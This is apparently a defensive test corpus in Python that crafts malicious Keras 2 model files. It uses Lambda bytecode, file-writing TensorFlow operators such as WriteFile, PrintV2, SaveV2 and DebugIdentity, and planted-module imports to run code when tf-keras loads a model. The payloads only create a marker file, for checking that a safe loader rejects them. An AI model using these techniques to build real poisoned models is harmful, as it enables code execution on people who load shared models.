"""Hostile `.h5` files of Keras 2, loaded by tf-keras."""

from __future__ import annotations

import base64
import contextlib
import json
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import h5py
import tensorflow as tf
import tf_keras

from attacks.corpus import attack

CODE = "Lambda layer, which is code that loading would run"
OPERATOR = "the operator {} is not known to be free of side effects"
UNKNOWN = "needs the unknown "
KERAS_2_ARCHIVE = r"is a \.keras file of Keras 2"


def load_and_run(path: Path, mark: Path) -> bool:
    # Some files fail to load after the effect.
    with contextlib.suppress(ValueError, TypeError, IndexError, KeyError, AttributeError):
        model = tf_keras.models.load_model(path, compile=False, safe_mode=True)
        model(tf.zeros([1, 8, 8, 3]))
    return mark.exists()


def load_to_train(path: Path, mark: Path) -> bool:
    with contextlib.suppress(ValueError, TypeError, AttributeError):
        tf_keras.models.load_model(path)
    return mark.exists()


def _saved(
    path: Path, change: Callable[[dict[str, Any], dict[str, Any]], None], *, nested: bool = False
) -> Path:
    """Saves a model of two outputs, and lets `change` edit its configuration.

    `change` gets the model's configuration and that of its one layer.
    """
    photo = tf_keras.Input((None, None, 3), name="photo")
    mine = tf_keras.layers.Activation("relu", name="mine")(photo)
    other = tf_keras.layers.Activation("linear", name="other")(photo)
    model = tf_keras.Model(photo, [mine, other], name="inner")
    if nested:
        outer = tf_keras.Input((None, None, 3))
        model = tf_keras.Model(outer, model(outer))
    model.save(path)
    with h5py.File(path, "r+") as file:
        config = json.loads(file.attrs["model_config"])
        layers = {layer["name"]: layer for layer in config["config"]["layers"]}
        if nested:
            inner = layers["inner"]["config"]["layers"]
            layers = {layer["name"]: layer for layer in inner}
        change(config, layers["mine"])
        file.attrs["model_config"] = json.dumps(config)
    return path


def _mark_maker(mark: Path):
    # A default argument travels in the file with the bytecode, as an attacker's path would.
    def code(x, mark=str(mark)):
        open(mark, "w").close()  # noqa: PTH123
        return x

    return code


@attack(load_and_run, CODE)
def bytecode(folder: Path, mark: Path) -> Path:
    photo = tf_keras.Input((None, None, 3))
    layer = tf_keras.layers.Lambda(_mark_maker(mark))
    tf_keras.Model(photo, layer(photo)).save(folder / "evil.h5")
    return folder / "evil.h5"


@attack(load_and_run, CODE)
def bytecode_in_a_wrapper(folder: Path, mark: Path) -> Path:
    photo = tf_keras.Input((4, 4, 3))
    layer = tf_keras.layers.TimeDistributed(tf_keras.layers.Lambda(_mark_maker(mark)))
    tf_keras.Model(photo, layer(photo)).save(folder / "evil.h5")
    return folder / "evil.h5"


@attack(load_and_run, CODE)
def bytecode_in_an_inner_model(folder: Path, mark: Path) -> Path:
    photo, outer = tf_keras.Input((None, None, 3)), tf_keras.Input((None, None, 3))
    inner = tf_keras.Model(photo, tf_keras.layers.Lambda(_mark_maker(mark))(photo))
    tf_keras.Model(outer, inner(outer)).save(folder / "evil.h5")
    return folder / "evil.h5"


@attack(load_and_run, r"the function tf\.io\.write_file is not known")
def function_that_writes(folder: Path, mark: Path) -> Path:
    def change(config: dict[str, Any], layer: dict[str, Any]) -> None:
        layer["class_name"] = "TFOpLambda"
        layer["config"] = {"name": "mine", "function": "io.write_file"}
        # A call whose arguments are constants is made while the model is built.
        layer["inbound_nodes"] = [["_CONSTANT_VALUE", -1, str(mark), {"contents": "was here"}]]

    return _saved(folder / "evil.h5", change)


def _operator(name: str, attributes: dict[str, Any], **config: Any):
    def change(model: dict[str, Any], layer: dict[str, Any]) -> None:
        inbound = config.get("inbound", layer["inbound_nodes"])
        node = {"name": "mine", "op": name, "attr": attributes, "input": list("abcd")}
        node["input"] = node["input"][: config.get("inputs", 1)]
        layer["class_name"] = "TensorFlowOpLayer"
        layer["inbound_nodes"] = inbound
        layer["config"] = {
            "name": "mine", "trainable": True, "dtype": "float32", "node_def": node,
            "constants": config.get("constants", {}),
        }  # fmt: skip

    return change


def _text(text: str) -> dict[str, str]:
    return {"s": base64.b64encode(text.encode()).decode()}


def _debugging(mark: Path) -> Callable[[dict[str, Any], dict[str, Any]], None]:
    return _operator(
        "DebugIdentity",
        {
            "T": {"type": "DT_FLOAT"},
            "tensor_name": _text("x:0"),
            "debug_urls": {"list": {"s": [_text(f"file://{mark}")["s"]]}},
        },
    )


def _string(text: str) -> list[Any]:
    """A constant of strings, which only what tf-keras decodes a second time can bring in."""
    tensor = {"class_name": "CompositeTensor", "spec": 0, "tensors": [["string", text]]}
    pair = {"class_name": "__tuple__", "items": [{"_TYPE": "COMPOSITE"}, json.dumps(tensor)]}
    return ["_CONSTANT_VALUE", -1, pair, {}]


@attack(load_and_run, OPERATOR.format("DebugIdentity"))
def operator_for_debugging(folder: Path, mark: Path) -> Path:
    return _saved(folder / "evil.h5", _debugging(mark))


@attack(load_and_run, OPERATOR.format("DebugIdentity"))
def operator_in_an_inner_model(folder: Path, mark: Path) -> Path:
    return _saved(folder / "evil.h5", _debugging(mark), nested=True)


@attack(load_and_run, "sparse or ragged constant|" + OPERATOR.format("WriteFile"))
def operator_that_writes(folder: Path, mark: Path) -> Path:
    change = _operator(
        "WriteFile", {}, inputs=2, constants={"0": str(mark)}, inbound=[_string("was here")]
    )
    return _saved(folder / "evil.h5", change)


@attack(load_and_run, "sparse or ragged constant|" + OPERATOR.format("PrintV2"))
def operator_that_prints_to_a_file(folder: Path, mark: Path) -> Path:
    attributes = {"output_stream": _text(f"file://{mark}"), "end": _text("\n")}
    change = _operator("PrintV2", attributes, inbound=[_string("was here")])
    return _saved(folder / "evil.h5", change)


@attack(load_and_run, OPERATOR.format("SaveV2"))
def operator_that_saves(folder: Path, mark: Path) -> Path:
    prefix = mark.with_suffix("")
    assert mark == prefix.with_suffix(".index"), "SaveV2 writes PREFIX.index"
    change = _operator(
        "SaveV2",
        {"dtypes": {"list": {"type": ["DT_FLOAT"]}}},
        inputs=4,
        constants={"0": str(prefix), "1": ["name"], "2": [""]},
        inbound=[["_CONSTANT_VALUE", -1, 1.0, {}]],
    )
    return _saved(folder / "evil.h5", change)


def _module(folder: Path, mark: Path) -> str:
    """Writes a module beside the model, and returns its name."""
    name = f"beside_{folder.name.replace('.', '_')}"
    (folder / f"{name}.py").write_text(
        f"open({str(mark)!r}, 'w').close()\n\n\ndef loss(*_):\n    return 0.0\n"
    )
    return name


def _function_of(module: str) -> dict[str, str]:
    return {"module": module, "class_name": "function", "config": "loss", "registered_name": "loss"}


def load(path: Path, mark: Path) -> bool:
    tf_keras.models.load_model(path, compile=False)
    return mark.exists()


@attack(load, UNKNOWN, stopped_by="Unknown object: 'function'")
def module_imported_for_a_constant(folder: Path, mark: Path) -> Path:
    function = _function_of(_module(folder, mark))
    change = _operator("AddV2", {"T": {"type": "DT_FLOAT"}}, inputs=2, constants={"1": function})
    return _saved(folder / "evil.h5", change)


def _archive(folder: Path, change: Callable[[dict[str, Any]], None]) -> Path:
    """Saves a model in Keras 2's version of the `.keras` format, and lets `change` edit it."""
    path = folder / "evil.keras"
    photo = tf_keras.Input((8, 8, 3))
    model = tf_keras.Model(photo, tf_keras.layers.Activation("relu")(photo))
    model.compile(optimizer="sgd", loss="mse")
    model.save(path)
    with zipfile.ZipFile(path) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    config = json.loads(parts["config.json"])
    change(config)
    parts["config.json"] = json.dumps(config).encode()
    with zipfile.ZipFile(path, "w") as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return path


@attack(load_and_run, UNKNOWN)
def module_imported_for_the_model(folder: Path, mark: Path) -> Path:
    def change(config: dict[str, Any]) -> None:
        config |= {"module": _module(folder, mark), "class_name": "X", "registered_name": None}

    return _archive(folder, change)


@attack(load_to_train, KERAS_2_ARCHIVE)
def module_imported_for_a_loss(folder: Path, mark: Path) -> Path:
    def change(config: dict[str, Any]) -> None:
        config["compile_config"]["loss"] = _function_of(_module(folder, mark))

    return _archive(folder, change)
